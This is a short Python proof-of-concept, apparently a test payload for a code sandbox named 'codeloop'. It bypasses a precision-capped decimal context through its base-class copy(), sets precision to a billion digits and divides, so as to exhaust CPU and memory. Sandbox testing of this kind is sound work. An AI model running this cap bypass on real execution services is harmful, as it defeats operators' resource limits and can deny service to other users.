# Technique: copy a precision-capped decimal context through its base class (super().copy() returns a plain
#            decimal.Context), lift the precision, then divide: one native call computing a billion digits
# Goal: f (CPU + memory exhaustion)
# Source: written for codeloop (bypass attempt against a capped decimal context)
# Requires: stdlib (decimal)
import decimal

ctx = decimal.getcontext()
try:
    plain = super(type(ctx), ctx).copy()  # the base class's copy: a plain, uncapped decimal.Context
except AttributeError:
    plain = ctx.copy()  # plain CPython: the context already is a decimal.Context
plain.prec = 10**9
print(str(plain.divide(decimal.Decimal(1), decimal.Decimal(7)))[:20])
